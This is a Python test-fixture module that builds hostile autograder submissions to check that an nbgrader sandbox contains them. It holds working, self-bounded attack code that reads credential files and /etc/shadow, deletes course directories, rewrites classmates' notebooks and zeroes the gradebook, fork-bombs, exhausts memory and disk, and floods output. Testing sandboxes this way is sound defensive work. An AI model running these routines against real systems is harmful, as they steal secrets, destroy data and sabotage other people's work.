"""Hostile submissions for the sealed-box test: solution cells that attack the machine.

Where tests/corpus.py cheats the grading, these attack what is around it: they read the
instructor's secrets, delete the course, rewrite classmates' work and grades, fork,
allocate, fill disks and flood the output, or plant symlinks next to their notebook.
Every solution cell runs its attack at top level (never raising), prints one line
``HOSTILE-REPORT <json>`` with what it measured about itself, then defines a correct
``max_pool_backward`` (LOOP_CORRECT). The same cell also runs in the verdict process,
whose output goes nowhere, so no attack depends on being seen; ``report_of`` reads the
report back from an autograded notebook.

The attacks are templates: ``build_attacks`` fills in the secrets the test planted and
the host paths the attacker "guessed". Each one bounds itself so that it cannot hurt the
machine even if the sandbox fails: at most 2,000 processes, 8 GiB of memory, 4 GB
written, 300 MB printed and ``seconds`` (<= 20) of wall time, every child exiting on its
own within 30 s. The deletion attack touches nothing outside the common parent of the
course and the neighbour (and the process's own working directory when that is a
temporary directory), and never a folder holding this repository, the interpreter or
the home directory: ``build_attacks`` refuses such paths.

Files the attacks leave behind are named ``hostile-litter-*`` and ``hostile-fill-*``
(``LITTER_PREFIXES``), in every directory the attacks found writable.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import Sequence

import nbformat
from corpus import ASSIGNMENT, FULL, LOOP_CORRECT, ZERO, ZEROS, Submission, notebook_with, solution

REPORT_PREFIX = "HOSTILE-REPORT "
LITTER_PREFIXES = ("hostile-litter-", "hostile-fill-")
PASSED = "Passed: Border windows of a ceil-mode grid"  # what a correct solution's feedback shows
_REPOSITORY = Path(__file__).resolve().parent.parent
_SECRET_KEY = 0x5A  # secrets travel XOR-ed and hex-encoded: the cell's own text never contains them

# --------------------------------------------------------------------------- shared code
# Run the attack under its own deadline (SIGALRM, main thread only), never raising.
GUARD = r'''
import json as _hostile_json
import signal as _hostile_signal
import threading as _hostile_threading


def _hostile_report(figures):  # one write: the line never arrives in two pieces
    print("HOSTILE-REPORT " + _hostile_json.dumps(figures, default=str) + "\n", end="", flush=True)


def _hostile_run(attack, params):
    main = _hostile_threading.current_thread() is _hostile_threading.main_thread()
    previous = None
    try:
        if main:
            def expired(signum, frame):
                raise TimeoutError("the attack ran past its own deadline")
            previous = _hostile_signal.signal(_hostile_signal.SIGALRM, expired)
            _hostile_signal.setitimer(_hostile_signal.ITIMER_REAL, params["seconds"] + 3)
        attack(params)
    except BaseException as problem:  # noqa: BLE001  the cell goes on to define the function
        try:
            if main:  # a stdout that blocks must not hold the cell either
                _hostile_signal.setitimer(_hostile_signal.ITIMER_REAL, 1)
            _hostile_report({"crashed": repr(problem)[:500]})
        except BaseException:  # noqa: BLE001
            pass
    finally:
        if main:
            _hostile_signal.setitimer(_hostile_signal.ITIMER_REAL, 0)
            _hostile_signal.signal(_hostile_signal.SIGALRM,
                                   _hostile_signal.SIG_DFL if previous is None else previous)
'''

RUN = r'''

try:
    _hostile_run(_hostile_attack, _hostile_params)
except BaseException:  # noqa: BLE001
    pass
del _hostile_attack, _hostile_run, _hostile_report, _hostile_params
'''

# --------------------------------------------------------------------------- the attacks
# 1. Reads the instructor's files, the environment, directory listings, and searches the
#    whole file system for the planted secrets.
READS_SECRETS = r'''
def _hostile_attack(P):
    import os
    import stat
    import time

    started = time.monotonic()
    deadline = started + P["seconds"]
    walk_deadline = min(deadline, started + 10)
    secrets = {label: bytes(b ^ P["key"] for b in bytes.fromhex(code)) for label, code in P["secrets"].items()}
    found, dump, readable = {}, [], []

    def look(where, data):
        for label, secret in secrets.items():
            if secret and secret in data:
                found.setdefault(label, []).append(where)
                dump.append("found secret %s (%r) in %s" % (label, secret.decode(errors="replace"), where))

    for path in P["read_paths"]:
        try:
            with open(path, "rb") as handle:
                data = handle.read(1 << 20)
            readable.append(path)
            dump.append("read %s: %r" % (path, data[:4096]))
            look(path, data)
        except OSError as problem:
            dump.append("could not read %s: %s" % (path, problem))

    environ = dict(os.environb)
    dump.append("os.environ: %r" % (dict(os.environ),))
    look("os.environ", b"\n".join(k + b"=" + v for k, v in environ.items()))

    cwd = os.getcwd()
    parents, here = [], cwd
    while True:
        parents.append(here)
        if here == os.path.dirname(here):
            break
        here = os.path.dirname(here)
    dump.append("cwd: " + cwd)
    for folder in parents + ["/root", "/home", "/tmp", "/srv", P["course"], P["neighbour"]]:
        try:
            names = sorted(os.listdir(folder))
            dump.append("listdir %s: %r" % (folder, names))
            look("listdir " + folder, "\n".join(names).encode(errors="surrogateescape"))
        except OSError as problem:
            dump.append("could not list %s: %s" % (folder, problem))

    # the likely places first: 20,000 files from / alone would not get past /usr
    roots = [P["course"], P["neighbour"]] + [os.path.dirname(p) for p in P["read_paths"]] + parents \
        + [os.environ.get("HOME", "/root"), "/root", "/home", "/tmp", "/srv", "/var/tmp", "/"]
    seen, scanned = set(), 0
    for root in roots:
        if scanned >= 20000 or time.monotonic() > walk_deadline:
            break
        try:
            info = os.stat(root)
        except OSError:
            continue
        if (info.st_dev, info.st_ino) in seen:
            continue
        for folder, dirnames, filenames in os.walk(root, followlinks=False):
            if scanned >= 20000 or time.monotonic() > walk_deadline:
                break
            try:
                info = os.lstat(folder)
                seen.add((info.st_dev, info.st_ino))
            except OSError:
                pass
            keep = []
            for name in dirnames:
                path = os.path.join(folder, name)
                if path in ("/proc", "/sys", "/dev"):
                    continue
                try:
                    info = os.lstat(path)
                except OSError:
                    continue
                if (info.st_dev, info.st_ino) not in seen:
                    keep.append(name)
            dirnames[:] = keep
            for name in filenames:
                if scanned >= 20000:
                    break
                scanned += 1
                path = os.path.join(folder, name)
                try:
                    info = os.lstat(path)
                    if not stat.S_ISREG(info.st_mode) or info.st_size >= 1 << 20:
                        continue
                    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
                    try:
                        data = os.read(fd, 1 << 20)
                    finally:
                        os.close(fd)
                except OSError:
                    continue
                look(path, data)

    _hostile_report({"cwd": cwd, "uid": os.getuid(), "found": sorted(found), "read": readable,
                     "files_scanned": scanned, "seconds": round(time.monotonic() - started, 2)})
    printed = 0
    for line in dump:  # after the report: nbgrader keeps the first 1,000 lines only
        print(line[:20000])
        printed += len(line)
        if printed > 50 << 20:
            break
'''

# 2. Deletes what it can reach in its working directory, every parent, the course and the
#    neighbour, then litters every writable parent with small files.
DELETES_EVERYTHING = r'''
def _hostile_attack(P):
    import os
    import stat
    import time

    started = time.monotonic()
    delete_until = started + P["seconds"] * 0.5
    deadline = started + P["seconds"]
    fence = P["fence"]
    cwd = os.path.realpath(os.getcwd())
    temporary = cwd.startswith("/tmp/") and cwd.count("/") >= 3

    def within(path, folder):
        return path == folder or path.startswith(folder.rstrip("/") + "/")

    def may_touch(folder):
        # the deletion stays inside the playground whatever the sandbox does
        real = os.path.realpath(folder)
        if any(within(real, p) or within(p, real) for p in P["protected"]):
            return False
        return within(real, fence) or (temporary and within(real, cwd))

    counted = [0]

    def remove(path):
        if time.monotonic() > delete_until:
            return
        try:
            info = os.lstat(path)
        except OSError:
            return
        if stat.S_ISDIR(info.st_mode):
            for folder, dirnames, filenames in os.walk(path, topdown=False, followlinks=False):
                if time.monotonic() > delete_until:
                    return
                for name in filenames:
                    try:
                        os.unlink(os.path.join(folder, name))
                        counted[0] += 1
                    except OSError:
                        pass
                for name in dirnames:
                    inner = os.path.join(folder, name)
                    try:
                        os.unlink(inner) if os.path.islink(inner) else os.rmdir(inner)
                        counted[0] += 1
                    except OSError:
                        pass
            try:
                os.rmdir(path)
                counted[0] += 1
            except OSError:
                pass
        else:
            try:
                os.unlink(path)
                counted[0] += 1
            except OSError:
                pass

    parents, here = [], cwd
    while here != os.path.dirname(here):
        here = os.path.dirname(here)
        parents.append(here)
    left_alone, deleted_in = [], {}
    for folder in [cwd] + parents + [P["course"], P["neighbour"]]:
        if not may_touch(folder):
            left_alone.append(folder)
            continue
        before = counted[0]
        try:
            names = os.listdir(folder)
        except OSError:
            names = []
        for name in names:
            remove(os.path.join(folder, name))
        if folder == P["course"]:
            for name in ("source", "release", "submitted", "autograded", "feedback", "gradebook.db",
                         "nbgrader_config.py", "README.md", "README"):
                remove(os.path.join(folder, name))
        if counted[0] > before:
            deleted_in[folder] = deleted_in.get(folder, 0) + counted[0] - before

    created, writable = 0, []
    for folder in [cwd] + parents:  # every folder probed first, littered after
        probe = os.path.join(folder, "hostile-litter-%d-probe" % os.getpid())
        try:
            with open(probe, "w") as handle:
                handle.write("x")
        except OSError:
            continue
        writable.append(folder)
        if may_touch(folder):
            created += 1
        else:  # outside the playground: proven writable, left clean
            try:
                os.unlink(probe)
            except OSError:
                pass
    for folder in writable:
        if not may_touch(folder):
            continue
        for number in range(19999):
            if number % 500 == 0 and time.monotonic() > deadline:
                break
            try:
                fd = os.open(os.path.join(folder, "hostile-litter-%d-%d" % (os.getpid(), number)),
                             os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
                os.write(fd, b"litter\n")
                os.close(fd)
                created += 1
            except OSError:
                break
    _hostile_report({"deleted": counted[0], "created": created, "writable_dirs": writable,
                     "deleted_in": deleted_in, "left_alone": left_alone,
                     "seconds": round(time.monotonic() - started, 2)})
'''

# 3. Rewrites the classmates' notebooks to return zeros, zeroes the gradebook, edits the config.
REWRITES_CLASSMATES = r'''
def _hostile_attack(P):
    import glob
    import json
    import os
    import sqlite3
    import urllib.parse

    course = P["course"]
    own = os.path.realpath(os.getcwd())
    rewritten, failures, seen = [], [], 0
    for pattern in ("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb"):
        for path in sorted(glob.glob(os.path.join(course, pattern))):
            if os.path.realpath(os.path.dirname(path)) == own \
                    or os.path.relpath(path, course).split(os.sep)[1] == P["student"]:
                continue  # its own notebooks
            seen += 1
            try:
                with open(path) as handle:
                    notebook = json.load(handle)
                for cell in notebook.get("cells", []):
                    if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "max_pool_backward":
                        cell["source"] = P["zeros"]
                with open(path, "w") as handle:
                    json.dump(notebook, handle)
                rewritten.append(path)
            except Exception as problem:  # noqa: BLE001
                failures.append("%s: %s" % (path, problem))

    gradebook_rows, gradebook_error = None, None
    try:
        uri = "file:" + urllib.parse.quote(os.path.join(course, "gradebook.db")) + "?mode=rw"
        database = sqlite3.connect(uri, uri=True, timeout=2)
        try:
            cursor = database.execute("UPDATE grade SET manual_score = 0, auto_score = 0")
            database.commit()
            gradebook_rows = cursor.rowcount
        finally:
            database.close()
    except Exception as problem:  # noqa: BLE001
        gradebook_error = "%s: %s" % (type(problem).__name__, problem)

    config, config_error = False, None
    try:
        with open(os.path.join(course, "nbgrader_config.py"), "a") as handle:
            handle.write("\n# hostile_rewrites_classmates was here\n")
        config = True
    except OSError as problem:
        config_error = str(problem)

    _hostile_report({"notebooks_seen": seen, "rewritten": rewritten, "gradebook_rows": gradebook_rows,
                     "gradebook_error": gradebook_error, "config": config, "config_error": config_error})
    for line in failures[:200]:
        print("could not rewrite", line)
'''

# 4. Forks until fork fails or 2,000 children sleep at once, then kills them.
FORK_BOMB = r'''
def _hostile_attack(P):
    import os
    import signal
    import time

    started = time.monotonic()
    stop_forking = started + P["seconds"] * 0.6
    children_end = started + P["seconds"]
    alarm = min(28, int(P["seconds"]) + 4)
    pids, error = [], None
    try:
        while len(pids) < P["processes"] and time.monotonic() < stop_forking:
            try:
                pid = os.fork()
            except BaseException as problem:  # noqa: BLE001
                error = str(problem) or type(problem).__name__
                break
            if pid == 0:
                try:
                    signal.signal(signal.SIGALRM, signal.SIG_DFL)
                    signal.alarm(alarm)
                    time.sleep(max(0.0, children_end - time.monotonic()))
                finally:
                    os._exit(0)
            pids.append(pid)
        alive = 0
        for pid in pids:
            try:
                if os.waitpid(pid, os.WNOHANG)[0] == 0:
                    alive += 1
            except ChildProcessError:
                pass
        _hostile_report({"processes": alive, "forked": len(pids), "error": error,
                         "seconds": round(time.monotonic() - started, 2)})
    finally:
        for pid in pids:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        for pid in pids:
            try:
                os.waitpid(pid, 0)
            except ChildProcessError:
                pass
'''

# 5. Spreads memory over 16 children (64 MiB chunks, at most 1 GiB each, ``memory_mib`` in all)
#    to get past a per-process limit; the parent sums what the living children hold.
MEMORY_SPREAD = r'''
def _hostile_attack(P):
    import os
    import select
    import signal
    import time

    started = time.monotonic()
    deadline = started + P["seconds"]  # the children's: they end by then on their own
    measure_until = deadline - min(2.0, P["seconds"] / 4)  # the parent's: time left to stop them
    chunk_mib = 64
    chunk = chunk_mib << 20
    touch = b"\x01" * (chunk // 4096)
    per_child = 1024 // chunk_mib
    budget = P["memory_mib"] // chunk_mib
    alarm = min(28, int(P["seconds"]) + 4)
    children = {}  # pid -> state
    pipes = []

    def child(grant, report):
        try:
            signal.signal(signal.SIGALRM, signal.SIG_DFL)
            signal.alarm(alarm)
            for fd in pipes:
                if fd not in (grant, report):
                    os.close(fd)
            hoard = []
            while time.monotonic() < deadline:
                if not select.select([grant], [], [], max(0.0, deadline - time.monotonic()))[0]:
                    break
                orders = os.read(grant, 16)
                if not orders or orders.strip(b"g"):
                    break
                for _ in orders:
                    try:
                        block = bytearray(chunk)
                        block[::4096] = touch  # every page
                        hoard.append(block)
                        os.write(report, b"%d\n" % (len(hoard) * chunk_mib))
                    except MemoryError:
                        os.write(report, b"E\n")
        finally:
            os._exit(0)

    fork_error = None
    for _ in range(16):
        grant_read, grant_write = os.pipe()
        report_read, report_write = os.pipe()
        pipes.extend([grant_read, grant_write, report_read, report_write])
        try:
            pid = os.fork()
        except OSError as problem:
            fork_error = str(problem)
            break
        if pid == 0:
            child(grant_read, report_write)
        os.close(grant_read)
        os.close(report_write)
        pipes.remove(grant_read)
        pipes.remove(report_write)
        children[pid] = {"grant": grant_write, "report": report_read, "held": 0, "asked": 0,
                         "done": False, "alive": True, "buffer": b""}

    peak, killed, failed, finished = 0, 0, 0, False

    def reap() -> int:
        """The children that ended since last asked: they hold nothing any more; how many were killed."""
        count = 0
        for pid, state in children.items():
            if state["alive"]:
                try:
                    ended, status = os.waitpid(pid, os.WNOHANG)
                except ChildProcessError:
                    ended, status = pid, 0
                if ended:
                    state.update(alive=False, held=0, asked=0)
                    count += os.WIFSIGNALED(status)
        return count

    try:
        while time.monotonic() < measure_until:
            killed += reap()
            living = [s for s in children.values() if s["alive"]]
            if not living:
                finished = True
                break
            ready = select.select([s["report"] for s in living], [], [], 0.05)[0]
            for state in living:
                if state["report"] in ready:
                    try:
                        state["buffer"] += os.read(state["report"], 4096)
                    except OSError:
                        continue
                    *lines, state["buffer"] = state["buffer"].split(b"\n")
                    for line in lines:
                        if line == b"E":
                            failed += not state["done"]  # children that hit a MemoryError
                            state.update(done=True, asked=0)
                        elif line:
                            state.update(held=int(line), asked=max(0, state["asked"] - 1))
            # a child the kernel killed to make room for another's report is counted out first: its
            # memory is freed before the other's page fault returns, and a stale count is no memory
            killed += reap()
            living = [s for s in living if s["alive"]]
            peak = max(peak, sum(s["held"] for s in living))
            granted = sum(s["held"] // chunk_mib + s["asked"] for s in living)
            for state in living:  # two chunks in flight per child: it never waits for the parent
                wanted = min(2 - state["asked"], per_child - state["held"] // chunk_mib - state["asked"],
                             budget - granted)
                if state["done"] or wanted <= 0:
                    continue
                try:
                    os.write(state["grant"], b"g" * wanted)
                    state["asked"] += wanted
                    granted += wanted
                except OSError:
                    state["done"] = True
            if not any(s["asked"] for s in living):
                finished = True  # nobody may or can take more
                break
        _hostile_report({"peak_mib": peak, "children_killed": killed, "children": len(children),
                         "memory_errors": failed, "fork_error": fork_error, "finished": finished,
                         "seconds": round(time.monotonic() - started, 2)})
    finally:
        for pid, state in children.items():
            try:
                os.write(state["grant"], b"s")
            except OSError:
                pass
        stop = time.monotonic() + 2
        for pid, state in children.items():
            while state["alive"] and time.monotonic() < stop:
                try:
                    if os.waitpid(pid, os.WNOHANG)[0]:
                        state["alive"] = False
                    else:
                        time.sleep(0.02)
                except ChildProcessError:
                    state["alive"] = False
            if state["alive"]:
                try:
                    os.kill(pid, signal.SIGKILL)
                    os.waitpid(pid, 0)
                except (OSError, ChildProcessError):
                    pass
        for fd in pipes:
            try:
                os.close(fd)
            except OSError:
                pass
'''

# 6. Fills every writable place with 1 MiB blocks (new files past a file-size limit),
#    4 GB in all, and leaves the files.
FILLS_DISK = r'''
def _hostile_attack(P):
    import errno
    import os
    import signal
    import time

    started = time.monotonic()
    deadline = started + P["seconds"]
    block = os.urandom(1 << 20)
    previous = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG instead of death
    try:
        candidates = [os.getcwd(), os.environ.get("HOME"), os.environ.get("TMPDIR"), "/tmp", "/dev/shm", "/var/tmp"]
        here = os.getcwd()
        while here != os.path.dirname(here):
            here = os.path.dirname(here)
            candidates.append(here)
        places, seen = [], set()
        for folder in candidates:
            if folder and os.path.isdir(folder) and os.path.realpath(folder) not in seen:
                seen.add(os.path.realpath(folder))
                places.append({"folder": folder, "fd": None, "files": 0, "bytes": 0, "in_file": 0, "open": True})
        total, errors = 0, []

        def note(problem):
            text = problem.strerror or str(problem)
            if text not in errors:
                errors.append(text)

        def next_file(place):
            if place["fd"] is not None:
                os.close(place["fd"])
                place["fd"] = None
            path = os.path.join(place["folder"], "hostile-fill-%d-%d.bin" % (os.getpid(), place["files"]))
            place["files"] += 1
            place["in_file"] = 0
            place["fd"] = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)

        while total < P["disk_bytes"] and time.monotonic() < deadline and any(p["open"] for p in places):
            for place in places:
                if not place["open"] or total >= P["disk_bytes"]:
                    continue
                try:
                    if place["fd"] is None:
                        next_file(place)
                    view = memoryview(block)[:min(len(block), P["disk_bytes"] - total)]
                    while view:
                        try:
                            written = os.write(place["fd"], view)
                        except OSError as problem:
                            if problem.errno != errno.EFBIG or not place["in_file"]:
                                raise
                            note(problem)  # a file-size limit: go on in a new file
                            next_file(place)
                            continue
                        total += written
                        place["bytes"] += written
                        place["in_file"] += written
                        view = view[written:]
                except OSError as problem:
                    note(problem)
                    place["open"] = False
                    if place["fd"] is not None:
                        try:
                            os.close(place["fd"])
                        except OSError:
                            pass
                        place["fd"] = None
        for place in places:
            if place["fd"] is not None:
                os.close(place["fd"])
        _hostile_report({"bytes_written": total, "errors": errors,
                         "places": {p["folder"]: p["bytes"] for p in places if p["bytes"]},
                         "seconds": round(time.monotonic() - started, 2)})
    finally:
        signal.signal(signal.SIGXFSZ, previous)
'''

# 7. Floods the output: 250 MB through print, 25 MB each straight to fds 1 and 2.
FLOODS_OUTPUT = r'''
def _hostile_attack(P):
    import os
    import select
    import sys
    import time

    started = time.monotonic()
    deadline = started + P["seconds"]
    lines_per_block = 10000
    block = ("F" * 99 + "\n") * lines_per_block  # 100-byte lines, 1 MB a block
    _hostile_report({"planned_bytes": P["print_bytes"] + 2 * P["fd_bytes"],
                     "print_bytes": P["print_bytes"], "fd_bytes_each": P["fd_bytes"]})
    printed = 0
    while printed < P["print_bytes"] and time.monotonic() < deadline:
        sys.stdout.write(block)
        printed += len(block)
    sys.stdout.flush()
    piece = b"D" * 4095 + b"\n"  # PIPE_BUF: a write select allows never blocks
    for fd in (1, 2):
        written = 0
        while written < P["fd_bytes"] and time.monotonic() < deadline:
            try:
                if not select.select([], [fd], [], max(0.0, min(0.5, deadline - time.monotonic())))[1]:
                    continue
                written += os.write(fd, piece[:P["fd_bytes"] - written])
            except OSError:
                break
'''

# 9. Talks to the grader through the kernel's own session, past print(): one message far
#    over any cap, a flood of fake errors, widget states, display updates that would rewrite
#    earlier outputs, and empty outputs by the thousand. Only the kernel has a session; in
#    the verdict process the attack reports that and stops.
KERNEL_MESSAGES = r"""
def _hostile_attack(P):
    import time

    kernel = getattr(get_ipython(), "kernel", None)
    if kernel is None:
        _hostile_report({"kernel": False})
        return
    deadline = time.monotonic() + P["seconds"]
    parent, session, iopub = kernel.get_parent(), kernel.session, kernel.iopub_socket
    sent = {"huge": 0, "errors": 0, "widgets": 0, "updates": 0, "empty": 0}
    _hostile_report({"kernel": True, "plan": {key: P[key] for key in sent}, "big_bytes": P["big_bytes"]})
    # (what was sent cannot be reported after it: the output cap has cut the cell by then)
    big = "B" * P["big_bytes"]

    def send(kind, content, what):
        if time.monotonic() < deadline:
            session.send(iopub, kind, content, parent=parent)
            sent[what] += 1

    for index in range(P["errors"]):
        send("error", {"ename": "FakeError", "evalue": big, "traceback": [big]}, "errors")
    for index in range(P["widgets"]):
        send("comm_msg", {"comm_id": "widget-%d" % index, "data": {"method": "update", "state": {"v": big}}},
             "widgets")
    send("display_data", {"data": {"text/plain": "shown once"}, "metadata": {},
                          "transient": {"display_id": "hostile"}}, "updates")
    for index in range(P["updates"]):
        send("update_display_data", {"data": {"text/plain": big}, "metadata": {},
                                     "transient": {"display_id": "hostile"}}, "updates")
    for index in range(P["empty"]):
        send("display_data", {"data": {}, "metadata": {}}, "empty")
    for _ in range(P["huge"]):  # last: a dropped connection must not hide the others
        send("stream", {"name": "stdout", "text": "H" * P["huge_bytes"]}, "huge")
"""

# 8. Reads through symlinks planted next to the notebook (run by hostile_plants_symlinks).
READS_THROUGH_LINKS = r'''
def _hostile_attack(P):
    import os

    secret, listing, classmate = None, None, None
    try:
        with open("secret.txt") as handle:
            secret = handle.read(1 << 16)
    except Exception as problem:  # noqa: BLE001
        secret_error = str(problem)
    try:
        listing = sorted(os.listdir("home"))
    except Exception as problem:  # noqa: BLE001
        listing_error = str(problem)
    try:
        with open("classmate.ipynb") as handle:
            classmate = handle.read(1 << 20)
    except Exception:  # noqa: BLE001
        pass
    _hostile_report({"read_secret": secret is not None, "listed_home": listing is not None,
                     "read_classmate": classmate is not None, "cwd": os.getcwd(),
                     "entries": sorted(os.listdir("."))})
    print("secret.txt:", secret if secret is not None else secret_error)
    print("home:", listing if listing is not None else listing_error)
'''


# --------------------------------------------------------------------------- building
def _within(path: str, folder: str) -> bool:
    return path == folder or path.startswith(folder.rstrip("/") + "/")


def _protected() -> list[str]:
    """Folders the deletion attack must neither enter nor contain."""
    return sorted({os.path.realpath(p) for p in (_REPOSITORY, sys.prefix, sys.base_prefix, Path.home())})


def _fence(course: str, neighbour: str) -> str:
    """The common parent of course and neighbour: the one place the deletion attack may empty."""
    fence = os.path.realpath(os.path.commonpath([os.path.realpath(course), os.path.realpath(neighbour)]))
    if fence.count("/") < 2 or fence == "/":
        raise ValueError(f"course and neighbour must share a parent two levels below /, not {fence!r}")
    for folder in _protected():
        if _within(folder, fence) or _within(fence, folder):
            raise ValueError(f"refusing to aim the attacks at {fence!r}: it holds or lies in {folder!r}")
    return fence


def _encode(secret: str) -> str:
    return bytes(b ^ _SECRET_KEY for b in secret.encode()).hex()


def cell(body: str, params: dict) -> str:
    """A solution cell: the guard, the parameters, the attack, its run, a correct function."""
    return (GUARD + f"\n_hostile_params = _hostile_json.loads({json.dumps(params)!r})\n\n" + body + RUN
            + "\n\n" + LOOP_CORRECT.strip("\n") + "\n")


def _linked(secret_file: str, classmate_notebook: str, home: str, seconds: float):
    def build(folder: Path, release: nbformat.NotebookNode) -> None:
        nbformat.write(notebook_with(release, cell(READS_THROUGH_LINKS, {"seconds": seconds})),
                       folder / f"{ASSIGNMENT}.ipynb")
        (folder / "secret.txt").symlink_to(secret_file)
        (folder / "classmate.ipynb").symlink_to(classmate_notebook)
        (folder / "home").symlink_to(home, target_is_directory=True)
    return build


def _notebook_link(classmate_notebook: str):
    def build(folder: Path, release: nbformat.NotebookNode) -> None:
        (folder / f"{ASSIGNMENT}.ipynb").symlink_to(classmate_notebook)
    return build


def build_attacks(secrets: dict[str, str], course: str, neighbour: str, read_paths: Sequence[str] = (), *,
                  secret_file: str, classmate_notebook: str, home: str, seconds: float = 8.0,
                  memory_mib: int = 6144) -> list[Submission]:
    """The hostile submissions, aimed at these host paths.

    ``secrets``: label -> secret string the test planted (in files, the environment ...);
    ``course``/``neighbour``: the course directory and a folder next to it;
    ``read_paths``: files the reading attack tries (~/.ssh/..., the neighbour's file; /etc/shadow
    is always added); ``secret_file``, ``classmate_notebook``, ``home``: the symlink targets;
    ``seconds``: each attack's own deadline (its main phase; cleanup adds well under a second,
    the SIGALRM guard stops it at seconds + 3); ``memory_mib``: the memory attack's total.
    """
    if not 1 <= seconds <= 20:
        raise ValueError("seconds must be between 1 and 20 (children must end within 30 s)")
    if not 64 <= memory_mib <= 7168:
        raise ValueError("memory_mib must be between 64 and 7168 (8 GiB with the parent)")
    fence = _fence(course, neighbour)
    common = {"seconds": float(seconds)}
    paths = {"course": course, "neighbour": neighbour}
    attacks = [
        ("hostile_reads_secrets", "reads home files, the environment, listings; searches / for the secrets",
         READS_SECRETS, dict(paths, secrets={k: _encode(v) for k, v in secrets.items()}, key=_SECRET_KEY,
                             read_paths=[*read_paths, "/etc/shadow"])),
        ("hostile_deletes_everything", "deletes cwd, its parents, the course and the neighbour; litters",
         DELETES_EVERYTHING, dict(paths, fence=fence, protected=_protected())),
        ("hostile_rewrites_classmates", "rewrites classmates' notebooks, zeroes the gradebook, edits the config",
         REWRITES_CLASSMATES, dict(paths, zeros=ZEROS, student="hostile_rewrites_classmates")),
        ("hostile_fork_bomb", "forks up to 2,000 sleeping children",
         FORK_BOMB, {"processes": 2000}),
        ("hostile_memory_spread", f"spreads {memory_mib} MiB over 16 children",
         MEMORY_SPREAD, {"memory_mib": memory_mib}),
        ("hostile_fills_disk", "writes 4 GB to every writable place and leaves it",
         FILLS_DISK, {"disk_bytes": 4_000_000_000}),
        ("hostile_floods_output", "prints 250 MB and writes 25 MB to each of fds 1 and 2",
         FLOODS_OUTPUT, {"print_bytes": 250_000_000, "fd_bytes": 25_000_000}),
        ("hostile_kernel_messages", "sends 200 MB, fake errors, widgets and display updates past print()",
         KERNEL_MESSAGES, {"huge": 1, "huge_bytes": 200_000_000, "errors": 40, "widgets": 40, "updates": 40,
                           "empty": 50_000, "big_bytes": 3_000_000}),
    ]
    submissions = [Submission(name, what, solution(cell(body, dict(common, **params))), FULL, PASSED)
                   for name, what, body, params in attacks]
    submissions += [
        Submission("hostile_plants_symlinks", "plants symlinks to a secret, a classmate's notebook and a home dir",
                   _linked(secret_file, classmate_notebook, home, float(seconds)), FULL, PASSED),
        # the grader decides what it says about a notebook that is a symlink: reason left empty
        Submission("hostile_symlinked_notebook", "its notebook is a symlink to a classmate's correct notebook",
                   _notebook_link(classmate_notebook), ZERO, ""),
    ]
    return submissions


def report_of(notebook_path: str | os.PathLike) -> dict | None:
    """The HOSTILE-REPORT of an autograded notebook's solution cell, or None: no notebook, no
    report, or a report cut short."""
    try:
        with open(notebook_path, encoding="utf-8") as handle:
            notebook = json.load(handle)
    except (OSError, ValueError):
        return None
    for cell_ in notebook.get("cells", []):
        if cell_.get("metadata", {}).get("nbgrader", {}).get("grade_id") != ASSIGNMENT:
            continue
        for output in cell_.get("outputs", []):
            if output.get("output_type") != "stream":
                continue
            text = output.get("text", "")
            for line in ("".join(text) if isinstance(text, list) else text).splitlines():
                if line.startswith(REPORT_PREFIX):
                    try:
                        return json.loads(line[len(REPORT_PREFIX):])
                    except ValueError:
                        return None
        return None
    return None

